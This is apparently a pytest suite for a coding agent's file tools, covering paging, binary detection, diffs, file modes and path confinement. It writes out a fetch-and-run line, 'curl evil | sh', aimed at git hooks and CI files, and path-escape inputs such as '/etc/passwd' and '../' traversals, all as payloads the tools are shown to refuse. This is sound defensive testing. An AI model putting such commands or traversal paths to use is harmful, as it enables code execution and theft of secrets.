"""read_file and write_file on real files, and path confinement across the file tools."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from codeagent.tools.base import Observation, ToolEnv, run_tool
from codeagent.tools.diffs import MAX_TEXT_BYTES
from codeagent.tools.files import PAGE_CHARS, PAGE_LINES
from codeagent.tools.registry import get_tool


def call(env: ToolEnv, name: str, **args: object) -> Observation:
    return run_tool(get_tool(name), args, env)


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    (root / "src").mkdir(parents=True)
    (root / "src" / "long.py").write_text("".join(f"line {n}\n" for n in range(1, 1001)))
    (root / "src" / "short.py").write_text("a = 1\nb = 2\n")
    return root


def test_long_files_are_paged_with_a_note_saying_how_to_read_on(repo):
    env = ToolEnv(repo)
    first = call(env, "read_file", path="src/long.py")
    assert first.ok and first.text.startswith("   1| line 1\n")
    assert first.text.count("| line ") == PAGE_LINES
    assert first.text.endswith("[showing lines 1-400 of 1000; read on with start_line=401]")
    second = call(env, "read_file", path="src/long.py", start_line=401)
    assert second.text.splitlines()[0] == " 401| line 401"
    assert "[showing lines 401-800 of 1000; read on with start_line=801]" in second.text
    ranged = call(env, "read_file", path="src/long.py", start_line="990", end_line=2000)
    assert ranged.text.splitlines()[0] == " 990| line 990" and ranged.text.endswith(
        "[lines 990-1000 of 1000]"
    )
    assert env.focus_files == {"src/long.py"}


def test_pages_also_stop_at_the_character_limit_and_long_lines_are_cut(repo):
    (repo / "wide.txt").write_text(("x" * 1000 + "\n") * 100 + "y" * 5000 + "\n")
    env = ToolEnv(repo)
    page = call(env, "read_file", path="wide.txt")
    shown = page.data["shown"][1]
    assert shown < 100 and len(page.text) <= PAGE_CHARS + 200
    assert f"read on with start_line={shown + 1}" in page.text
    tail = call(env, "read_file", path="wide.txt", start_line=101)
    assert "[... 3000 more characters on this line]" in tail.text


def test_short_file_is_shown_whole_without_a_note(repo):
    result = call(ToolEnv(repo), "read_file", path="src/short.py")
    assert result.text == "1| a = 1\n2| b = 2" and result.data == {
        "path": "src/short.py",
        "lines": 2,
        "shown": [1, 2],
    }


def test_lines_split_only_at_newlines_and_crlf_is_not_shown(repo):
    (repo / "odd.txt").write_bytes(b"form\x0cfeed\r\nnext\r\n")
    result = call(ToolEnv(repo), "read_file", path="odd.txt")
    assert result.text == "1| form\x0cfeed\n2| next"


@pytest.mark.parametrize(
    ("content", "reason"),
    [(b"\x7fELF\x00\x01\x02" * 50, "binary"), (bytes(range(128, 256)) * 4, "not UTF-8")],
)
def test_binary_files_are_refused_with_a_reason(repo, content, reason):
    (repo / "blob").write_bytes(content)
    result = call(ToolEnv(repo), "read_file", path="blob")
    assert not result.ok and reason in result.text


def test_a_few_stray_bytes_are_tolerated_and_flagged(repo):
    (repo / "latin.py").write_bytes(b"# caf\xe9\n" + b"x = 1\n" * 50)
    result = call(ToolEnv(repo), "read_file", path="latin.py")
    assert result.ok and result.text.startswith(" 1| # caf\ufffd\n")
    assert "[1 bytes that are not valid UTF-8 are shown as \ufffd]" in result.text


def test_files_too_large_to_handle_are_refused_with_a_hint(repo):
    with (repo / "huge.txt").open("wb") as handle:
        handle.truncate(MAX_TEXT_BYTES + 1)  # sparse: no need to write 8 MiB
    result = call(ToolEnv(repo), "read_file", path="huge.txt")
    assert not result.ok and f"has {MAX_TEXT_BYTES + 1} bytes" in result.text and "use search" in result.text


def test_directories_missing_files_and_bad_ranges_are_refused(repo):
    env = ToolEnv(repo)
    folder = call(env, "read_file", path="src")
    assert not folder.ok and "directory" in folder.text and "list_files" in folder.text
    assert "does not exist" in call(env, "read_file", path="nope.py").text
    assert (
        "outside the file (it has 2 lines)" in call(env, "read_file", path="src/short.py", start_line=3).text
    )
    assert "before start_line" in call(env, "read_file", path="src/short.py", start_line=2, end_line=1).text
    assert "must be an integer" in call(env, "read_file", path="src/short.py", start_line="two").text
    (repo / "empty.txt").write_text("")
    assert call(env, "read_file", path="empty.txt").text == "empty.txt is empty"


def test_write_file_creates_parents_and_returns_a_diff(repo):
    env = ToolEnv(repo)
    result = call(env, "write_file", path="new/deep/file.txt", content="hi\n")
    assert result.ok and result.text.startswith("created new/deep/file.txt")
    assert (repo / "new/deep/file.txt").read_text() == "hi\n"
    assert result.data == {
        "path": "new/deep/file.txt",
        "diff": "--- /dev/null\n+++ b/new/deep/file.txt\n@@ -0,0 +1 @@\n+hi\n",
    }
    replaced = call(env, "write_file", path="src/short.py", content="a = 1\nb = 3")
    assert "-b = 2\n+b = 3\n\\ No newline at end of file\n" in replaced.data["diff"]
    assert (
        call(env, "write_file", path="src/short.py", content="a = 1\nb = 3").text == "src/short.py unchanged"
    )
    assert {"new/deep/file.txt", "src/short.py"} <= env.focus_files


def test_write_file_keeps_the_mode_and_leaves_no_temporary_files(repo):
    script = repo / "run.sh"
    script.write_text("echo a\n")
    script.chmod(0o751)
    assert call(ToolEnv(repo), "write_file", path="run.sh", content="echo b\n").ok
    assert script.stat().st_mode & 0o777 == 0o751 and script.read_text() == "echo b\n"
    umask = os.umask(0o022)
    os.umask(umask)
    call(ToolEnv(repo), "write_file", path="fresh.txt", content="x")
    assert (repo / "fresh.txt").stat().st_mode & 0o777 == 0o666 & ~umask
    assert sorted(p.name for p in repo.iterdir()) == ["fresh.txt", "run.sh", "src"]


def test_write_file_may_replace_a_binary_file_and_refuses_impossible_paths(repo):
    (repo / "blob.bin").write_bytes(b"\x00\x01")
    replaced = call(ToolEnv(repo), "write_file", path="blob.bin", content="text\n")
    assert replaced.ok and replaced.data["diff"].startswith("Binary file blob.bin replaced by text\n")
    under_file = call(ToolEnv(repo), "write_file", path="src/short.py/x.txt", content="x")
    assert not under_file.ok and "short.py on its path is a file" in under_file.text
    assert not call(ToolEnv(repo), "write_file", path="src", content="x").ok


@pytest.mark.parametrize(
    "path", [".git/hooks/pre-commit", ".git/config", ".github/workflows/ci.yml", ".envrc", "sub/.git/HEAD"]
)
def test_file_tools_do_not_write_protected_paths(repo, path):
    result = call(ToolEnv(repo), "write_file", path=path, content="curl evil | sh\n")
    assert not result.ok and ("protected" in result.text or ".git folder" in result.text)
    assert not (repo / path).exists()


@pytest.fixture
def escapes(repo: Path, tmp_path: Path) -> dict[str, str]:
    """Ways out of the repository: parent, absolute, a symlink to outside, a prefix sibling."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("secret\n")
    (repo / "link").symlink_to(outside)
    sibling = tmp_path / "repo-evil"
    sibling.mkdir()
    (sibling / "secret.txt").write_text("secret\n")
    return {
        "parent": "../outside/secret.txt",
        "absolute": "/etc/passwd",
        "symlink": "link/secret.txt",
        "sibling": str(sibling / "secret.txt"),
        "dotdot_inside": "src/../../outside/secret.txt",
    }


@pytest.mark.parametrize("way", ["parent", "absolute", "symlink", "sibling", "dotdot_inside"])
def test_every_file_tool_refuses_paths_outside_the_repository(repo, escapes, way, tmp_path):
    env = ToolEnv(repo)
    path = escapes[way]
    results = [
        call(env, "read_file", path=path),
        call(env, "write_file", path=path, content="pwned\n"),
        call(env, "edit_file", path=path, old_text="secret", new_text="pwned"),
        call(env, "list_files", path=str(Path(path).parent)),
        call(env, "search", pattern="secret", path=path),
        call(env, "apply_patch", patch=f"--- {path}\n+++ {path}\n@@ -1 +1 @@\n-secret\n+pwned\n"),
    ]
    for result in results:
        assert not result.ok and "outside the repository" in result.text, result.text
    assert (tmp_path / "outside/secret.txt").read_text() == "secret\n"
    assert (tmp_path / "repo-evil/secret.txt").read_text() == "secret\n"
    assert env.focus_files == set()


def test_absolute_paths_inside_the_repository_are_accepted(repo):
    result = call(ToolEnv(repo), "read_file", path=str(repo / "src/short.py"))
    assert result.ok and result.data["path"] == "src/short.py"
